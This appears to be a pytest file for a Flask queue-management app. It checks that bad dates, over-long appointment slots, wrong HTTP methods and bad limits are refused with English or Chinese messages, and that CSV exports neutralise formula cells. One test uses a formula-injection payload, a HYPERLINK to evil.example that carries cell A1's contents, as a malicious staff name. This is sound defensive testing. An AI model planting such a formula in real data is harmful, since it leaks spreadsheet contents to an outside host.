"""Bad input through the Flask app: non-ISO dates, a slot of several days, a wrong method and
formulas in CSV cells are each refused or defused in the caller's language, never a 500."""
import csv
import io

import pytest

from queue_core.api.routes_reports import csv_document
from queuehall.app import create_app
from queue_core.domain.model import Action
from queue_core.service import accounts

from ..conftest import make_settings, prepare
from .helpers import act, call, issue, staff_window

SITE = "/api/v1/sites/test"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"点击查看")'


@pytest.fixture
def app(tmp_path, clock):
    settings = make_settings(f"sqlite:///{tmp_path / 'hall.db'}", tmp_path)
    prepare(settings)
    app = create_app(settings, clock=clock)
    app.config["WTF_CSRF_ENABLED"] = False
    with app.extensions["queuehall"].db.writer() as s:
        accounts.create_user(s, "boss", "password123", "manager", "Boss", "test")
        s.commit()
    return app


@pytest.fixture
def manager(app):
    client = app.test_client()
    assert client.post("/api/v1/auth/login",
                       json={"username": "boss", "password": "password123"}).status_code == 200
    return client


@pytest.mark.parametrize("path", [
    f"{SITE}/appointments?date=0", f"{SITE}/appointments?date=1700000000",
    f"{SITE}/reports?from=0", f"{SITE}/reports?to=1700000000", f"{SITE}/reports.csv?from=0",
    f"{SITE}/staffing/advice?date=0", f"{SITE}/appointments?date=2026-11-23T00:00",
])
def test_a_date_that_is_not_iso_is_refused_not_read_as_1970(manager, path):
    refused = manager.get(path, headers={"Accept-Language": "en"})
    assert refused.status_code == 400, refused.data[:200]
    error = refused.get_json()["error"]
    assert error["code"] == "invalid_input" and "ISO 8601" in error["fields"][0]["detail"]


@pytest.mark.parametrize("path, body", [
    ("staffing/what-if", {"category": "social", "extra_windows": 1, "date": 0}),
    ("staffing/what-if", {"category": "social", "extra_windows": 1, "date": "0"}),
    ("appointments", {"category": "social", "slot_start": 0,
                      "slot_end": "2026-11-23T11:00+08:00"}),
    ("appointments", {"category": "social", "slot_start": "2026-11-23T10:00+08:00",
                      "slot_end": 1795000000}),
])
def test_a_date_or_time_in_a_body_must_be_iso_text(manager, path, body):
    refused = manager.post(f"{SITE}/{path}", json=body)
    assert refused.status_code == 400 and refused.get_json()["error"]["code"] == "invalid_input"


def test_iso_dates_still_work(manager):
    assert manager.get(f"{SITE}/appointments?date=2026-11-23").status_code == 200
    assert manager.get(f"{SITE}/reports?from=2026-11-23&to=2026-11-23").status_code == 200


@pytest.mark.parametrize("lang, message", [
    ("zh", "预约时段不能超过一天：2026-11-23T10:00+08:00 至 2026-11-24T10:01+08:00"),
    ("en", "An appointment slot may not be longer than a day: "
           "2026-11-23T10:00+08:00 to 2026-11-24T10:01+08:00")])
def test_an_appointment_slot_longer_than_a_day_is_refused(manager, lang, message):
    slot = {"category": "social", "slot_start": "2026-11-23T10:00+08:00"}
    refused = manager.post(f"{SITE}/appointments", headers={"Accept-Language": lang},
                           json={**slot, "slot_end": "2026-11-24T10:01+08:00"})
    assert refused.status_code == 400
    assert refused.get_json()["error"]["code"] == "appointment_slot_too_long"
    assert refused.get_json()["error"]["message"] == message
    day = manager.post(f"{SITE}/appointments", json={**slot, "slot_end": "2026-11-24T10:00+08:00"})
    assert day.status_code == 201  # a whole day is still a slot


@pytest.mark.parametrize("method, path, allowed", [
    ("delete", "/api/v1/sites", "GET, HEAD, OPTIONS"),
    ("put", f"{SITE}/tickets", "GET, HEAD, OPTIONS, POST"),
    ("post", "/display/hall", "GET, HEAD, OPTIONS"),  # a page
])
def test_a_wrong_method_says_which_are_allowed(app, method, path, allowed):
    refused = getattr(app.test_client(), method)(path, headers={"Accept-Language": "en"})
    assert refused.status_code == 405 and refused.headers["Allow"] == allowed
    assert refused.get_json()["error"]["message"] == \
        f"Method {method.upper()} not allowed (allowed: {allowed})"
    zh = getattr(app.test_client(), method)(path).get_json()["error"]["message"]
    assert zh == f"不支持该请求方法 {method.upper()}（可用：{allowed}）"


def test_a_staff_name_written_as_a_formula_is_plain_text_in_the_csv(app, manager):
    hall = app.extensions["queuehall"]
    with hall.db.writer() as s:
        mallory = accounts.staff_actor(accounts.create_user(
            s, "mallory", "password123", "staff", FORMULA, "test"))
        s.commit()
    staff_window(hall, 1, mallory)
    ticket = issue(hall, mallory)
    call(hall, 1, mallory)
    act(hall, ticket["id"], Action.START, mallory)
    act(hall, ticket["id"], Action.FINISH, mallory)
    answer = manager.get(f"{SITE}/reports.csv?table=staff&lang=en")
    assert answer.status_code == 200
    rows = list(csv.DictReader(io.StringIO(answer.data.decode("utf-8-sig"))))
    mine = next(r for r in rows if r["Account"] == "mallory")
    assert mine["Staff"] == "'" + FORMULA
    assert mine["Served"] == "1"


def test_csv_cells_that_would_start_a_formula_get_a_quote_and_numbers_stay_numbers():
    columns = [("name", "=Name"), ("figure", "Figure")]
    rows = [{"name": name, "figure": figure} for name, figure in [
        ("=1+2", -3), ("+86 138", -0.5), ("-社保", 0), ("@SUM(A1)", 12), ("\tTab", None),
        ("\rCR", 1.5), ("社保 = 医保", -12)]]
    lines = list(csv.reader(io.StringIO(csv_document(columns, rows).decode("utf-8-sig"))))
    assert lines == [["'=Name", "Figure"], ["'=1+2", "-3"], ["'+86 138", "-0.5"],
                     ["'-社保", "0"], ["'@SUM(A1)", "12"], ["'\tTab", ""], ["'\rCR", "1.5"],
                     ["社保 = 医保", "-12"]]


@pytest.mark.parametrize("limit", ["0", "501", "-3", "abc", "2.5"])
@pytest.mark.parametrize("lang, says", [("zh", "输入有误：limit"), ("en", "Invalid input: limit")])
def test_a_bad_queue_list_limit_is_refused_in_the_callers_language(manager, limit, lang, says):
    refused = manager.get(f"{SITE}/tickets?limit={limit}", headers={"Accept-Language": lang})
    assert refused.status_code == 400, refused.data[:200]
    error = refused.get_json()["error"]
    assert error["code"] == "invalid_input" and error["params"]["field"] == "limit"
    assert error["message"] == says


def test_the_queue_list_says_how_many_wait_beyond_those_it_lists(app, manager):
    kiosk = app.test_client()
    with app.extensions["queuehall"].db.writer() as s:
        token = accounts.issue_device_token(s, "test", "kiosk-1")
        s.commit()
    for _ in range(4):
        assert kiosk.post(f"{SITE}/tickets", json={"category": "social"},
                          headers={"Authorization": f"Bearer {token}"}).status_code == 201
    listed = manager.get(f"{SITE}/tickets").get_json()
    assert (len(listed["tickets"]), listed["total"], listed["limit"]) == (4, 4, 50)
    listed = manager.get(f"{SITE}/tickets?limit=3").get_json()
    assert [t["number"] for t in listed["tickets"]] == ["A001", "A002", "A003"]
    assert (listed["total"], listed["limit"]) == (4, 3)
